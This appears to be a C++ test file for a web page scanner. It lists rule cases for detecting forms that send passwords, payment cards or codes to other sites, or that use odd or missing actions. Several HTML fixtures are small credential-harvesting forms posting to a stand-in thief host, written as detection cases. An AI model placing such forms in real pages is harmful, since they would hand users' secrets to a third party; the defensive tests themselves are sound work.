#include "tests/rules/rule_cases.h"

namespace pagescan::test {
namespace {

constexpr const char* kShop = "https://shop.example/";

std::vector<RuleCase> credentials_cross_site() {
  using enum CaseKind;
  return {
      {.rule = "F04",
       .kind = kBad,
       .about = "a password to another site",
       .url = kShop,
       .html = "<!doctype html>\n<form method=post "
               "action=https://thief.test/p>\n<input type=password name=p>"
               "<button>Go</button></form>",
       .message = "the password input \"p\" to another site, \"thief.test\"",
       .line = 2,
       .column = 1,
       .level = Level::kError,
       .count = 1},
      {.rule = "F04",
       .kind = kBad,
       .about = "by a submitter's formaction",
       .url = kShop,
       .html = "<form method=post action=/a><input type=password name=p>"
               "<button>A</button>\n<button formaction=//thief.test/b>B"
               "</button></form>",
       .message = "\"thief.test\"",
       .line = 2,
       .column = 1},
      {.rule = "F04",
       .kind = kBad,
       .about = "a payment card",
       .url = kShop,
       .html = "<form method=post action=https://cards.test/pay>"
               "<input name=n autocomplete=cc-number>"
               "<input name=e autocomplete=cc-exp>"
               "<input name=c autocomplete=cc-csc><button>Pay</button></form>",
       .message = "\"cards.test\""},
      {.rule = "F04",
       .kind = kBad,
       .about = "a one-time code",
       .url = kShop,
       .html = "<form method=post action=https://thief.test/p>"
               "<input name=code autocomplete=one-time-code>"
               "<button>Go</button></form>",
       .message = "\"thief.test\""},
      {.rule = "F04",
       .kind = kBad,
       .about = "one finding a host",
       .url = kShop,
       .html = "<form method=post action=https://thief.test/1>"
               "<input type=password name=p><button>1</button>"
               "<button formaction=https://thief.test/2>2</button></form>",
       .message = "\"thief.test\"",
       .count = 1},
      {.rule = "F04",
       .kind = kBad,
       .about = "lower for a known sign-in provider",
       .url = kShop,
       .html = "<form method=post "
               "action=https://login.microsoftonline.com/common/login>"
               "<input type=password name=p><button>Go</button></form>",
       .message = "a known provider",
       .level = Level::kNote},
      {.rule = "F04",
       .kind = kBad,
       .about = "lower for a known payment provider",
       .url = kShop,
       .html = "<form method=post "
               "action=https://secure.authorize.net/gateway/transact.dll>"
               "<input name=n autocomplete=cc-number>"
               "<input name=e autocomplete=cc-exp><button>Pay</button></form>",
       .message = "a known provider",
       .level = Level::kNote},
      {.rule = "F04",
       .kind = kBad,
       .about = "lower for the same name in another country",
       .url = "https://www.shop.de/",
       .html = "<form method=post action=https://login.shop.com/>"
               "<input type=password name=p><button>Go</button></form>",
       .message = "of the same name",
       .level = Level::kWarning},
      {.rule = "F04",
       .kind = kBad,
       .about = "lower for a site the page links to",
       .url = kShop,
       .html = "<form method=post action=https://login.partner.test/>"
               "<input type=password name=p><button>Go</button></form>"
               "<a href=https://www.partner.test/forgot>Forgotten?</a>",
       .message = "which its links lead to as well",
       .level = Level::kWarning},
      {.rule = "F04",
       .kind = kGood,
       .about = "another host of the same site",
       .url = "https://www.shop.example/",
       .html = "<form method=post action=https://login.shop.example/>"
               "<input type=password name=p><button>Go</button></form>"},
      {.rule = "F04",
       .kind = kTrap,
       .about = "an affiliated domain",
       .url = kShop,
       .html = "<form method=post action=https://id.partner.test/>"
               "<input type=password name=p><button>Go</button></form>",
       .configure =
           [](RuleParameters& parameters) {
             parameters.affiliated_domains = {"partner.test"};
           }},
      {.rule = "F04",
       .kind = kTrap,
       .about = "a page of unknown address",
       .url = "",
       .html = "<form method=post action=https://shop.example/>"
               "<input type=password name=p><button>Go</button></form>",
       .status = 0},
      {.rule = "F04",
       .kind = kTrap,
       .about = "a form without a secret",
       .url = kShop,
       .html = "<form method=post action=https://other.test/>"
               "<input name=q><button>Go</button></form>"},
  };
}

std::vector<RuleCase> form_cross_site() {
  using enum CaseKind;
  return {
      {.rule = "F05",
       .kind = kBad,
       .about = "a contact form of another site",
       .url = kShop,
       .html = "<form method=post action=https://other.test/c>"
               "<input name=email type=email><textarea name=message>"
               "</textarea><button>Send</button></form>",
       .message = "sends what is typed to another site, \"other.test\"",
       .line = 1,
       .column = 1,
       .level = Level::kNote},
      {.rule = "F05",
       .kind = kGood,
       .about = "the own site",
       .url = kShop,
       .html = "<form method=post action=/c><input name=email type=email>"
               "<button>Send</button></form>"},
      {.rule = "F05",
       .kind = kTrap,
       .about = "a newsletter host",
       .url = kShop,
       .html = "<form method=post "
               "action=https://shop.us1.list-manage.com/subscribe/post>"
               "<input name=EMAIL type=email><button>Subscribe</button>"
               "</form>"},
      {.rule = "F05",
       .kind = kTrap,
       .about = "a newsletter host below a site of more",
       .url = kShop,
       .html = "<form method=post "
               "action=https://feedburner.google.com/fb/a/mailverify>"
               "<input name=email type=email><button>Subscribe</button>"
               "</form>"},
      {.rule = "F05",
       .kind = kBad,
       .about = "a host that only ends like a newsletter host",
       .url = kShop,
       .html = "<form method=post action=https://notwufoo.com/>"
               "<textarea name=message></textarea><button>Send</button>"
               "</form>",
       .message = "\"notwufoo.com\""},
      {.rule = "F05",
       .kind = kTrap,
       .about = "a search provider",
       .url = kShop,
       .html = "<form action=https://www.google.com/search role=search>"
               "<input name=q type=search><button>Search</button></form>"},
      {.rule = "F05",
       .kind = kTrap,
       .about = "a payment provider's button",
       .url = kShop,
       .html = "<form method=post "
               "action=https://www.paypal.com/cgi-bin/webscr>"
               "<input type=hidden name=cmd value=_donations>"
               "<input type=submit value=Donate></form>"},
      {.rule = "F05",
       .kind = kTrap,
       .about = "a form as a link",
       .url = kShop,
       .html = "<form action=https://other.test/><button>Go there</button>"
               "</form>"},
      {.rule = "F05",
       .kind = kTrap,
       .about = "a form that a script fills and sends",
       .url = kShop,
       .html = "<form method=post action=https://ads.test/log>"
               "<input type=hidden name=data></form>"},
      {.rule = "F05",
       .kind = kTrap,
       .about = "a form with a password is another rule's",
       .url = kShop,
       .html = "<form method=post action=https://other.test/>"
               "<input type=password name=p><button>Go</button></form>"},
      {.rule = "F05",
       .kind = kTrap,
       .about = "an affiliated domain",
       .url = kShop,
       .html = "<form method=post action=https://www.partner.test/>"
               "<textarea name=message></textarea><button>Go</button></form>",
       .configure =
           [](RuleParameters& parameters) {
             parameters.affiliated_domains = {"partner.test"};
           }},
  };
}

std::vector<RuleCase> odd_schemes() {
  using enum CaseKind;
  return {
      {.rule = "F06",
       .kind = kBad,
       .about = "a password by mail",
       .html = "<form method=post action=mailto:a@shop.example>"
               "<input type=password name=p><button>Go</button></form>",
       .message = "a secret too",
       .line = 1,
       .column = 1,
       .level = Level::kWarning},
      {.rule = "F06",
       .kind = kBad,
       .about = "an old contact page: lower",
       .html = "<form method=post enctype=text/plain "
               "action='mailto:a@shop.example?subject=Hello'>"
               "<textarea name=message></textarea><button>Go</button></form>",
       .message = "mail program",
       .level = Level::kNote},
      {.rule = "F06",
       .kind = kGood,
       .about = "a contact form",
       .html = "<form method=post action=/mail><textarea name=message>"
               "</textarea><button>Go</button></form>"},
      {.rule = "F06",
       .kind = kTrap,
       .about = "a mailto link in a form",
       .html = "<form method=post action=/mail><a href=mailto:a@b.example>"
               "Write</a><input name=q><button>Go</button></form>"},
      {.rule = "F07",
       .kind = kBad,
       .about = "a javascript: action",
       .html = "<form action='javascript:send(this)'>"
               "<input type=password name=p><button>Go</button></form>",
       .message = "\"javascript:send(this)\"",
       .line = 1,
       .column = 1,
       .level = Level::kWarning},
      {.rule = "F07",
       .kind = kBad,
       .about = "a data: formaction",
       .html = "<form method=post action=/a><input name=q>\n"
               "<button formaction='data:text/html,x'>Go</button></form>",
       .message = "\"data:text/html,x\"",
       .line = 2,
       .column = 1,
       .level = Level::kWarning},
      {.rule = "F07",
       .kind = kBad,
       .about = "an application's void action: lower",
       .html = "<form action='javascript:void(0);'><input name=q>"
               "<button>Go</button></form>",
       .message = "which does nothing",
       .level = Level::kNote},
      {.rule = "F07",
       .kind = kBad,
       .about = "another way to do nothing: lower",
       .html = "<form action='javascript: return false;'><input name=q>"
               "<button>Go</button></form>",
       .message = "which does nothing",
       .level = Level::kNote},
      {.rule = "F07",
       .kind = kGood,
       .about = "an address",
       .html = "<form action=/go><input name=q><button>Go</button></form>"},
      {.rule = "F07",
       .kind = kTrap,
       .about = "a path that begins with the word",
       .html = "<form action=javascript/go><input name=q><button>Go</button>"
               "</form>"},
  };
}

std::vector<RuleCase> null_action() {
  using enum CaseKind;
  return {
      {.rule = "F08",
       .kind = kBad,
       .about = "no action",
       .html = "<p>\n<form method=post><input type=password name=p>"
               "<button>Go</button></form>",
       .message = "has no action",
       .line = 2,
       .column = 1,
       .level = Level::kNote},
      {.rule = "F08",
       .kind = kBad,
       .about = "an empty action",
       .html = "<form method=post action=''><input type=password name=p>"
               "<button>Go</button></form>",
       .message = "has an empty action"},
      {.rule = "F08",
       .kind = kBad,
       .about = "a fragment alone",
       .html = "<form method=post action='#'><input type=password name=p>"
               "<button>Go</button></form>",
       .message = "has the action \"#\""},
      {.rule = "F08",
       .kind = kBad,
       .about = "about:blank",
       .html = "<form method=post action=about:blank onsubmit=s()>"
               "<input type=password name=p><button>Go</button></form>",
       .message = "leads to about:blank"},
      {.rule = "F08",
       .kind = kGood,
       .about = "an action",
       .html = "<form method=post action=/login><input type=password name=p>"
               "<button>Go</button></form>"},
      {.rule = "F08",
       .kind = kTrap,
       .about = "an application that submits by script",
       .html = "<form onsubmit='return login(this)'>"
               "<input type=password name=p><button>Go</button></form>"},
      {.rule = "F08",
       .kind = kTrap,
       .about = "an application of a framework",
       .html = "<form @submit.prevent=login action='#'>"
               "<input type=password name=p><button>Go</button></form>"},
      {.rule = "F08",
       .kind = kTrap,
       .about = "a button with a click handler",
       .html = "<form><input type=password name=p>"
               "<button type=button onclick=login()>Go</button></form>"},
      {.rule = "F08",
       .kind = kTrap,
       .about = "the page itself, without a password",
       .html = "<form action='#'><input name=q><button>Go</button></form>"},
      {.rule = "F08",
       .kind = kTrap,
       .about = "a submitter that has the address",
       .html = "<form method=post><input type=password name=p>"
               "<button formaction=/login>Go</button></form>"},
  };
}

}  // namespace

std::vector<RuleCase> form_destination_cases() {
  std::vector<RuleCase> cases;
  for (const auto table :
       {credentials_cross_site, form_cross_site, odd_schemes, null_action}) {
    for (RuleCase& rule_case : table()) cases.push_back(std::move(rule_case));
  }
  return cases;
}

}  // namespace pagescan::test
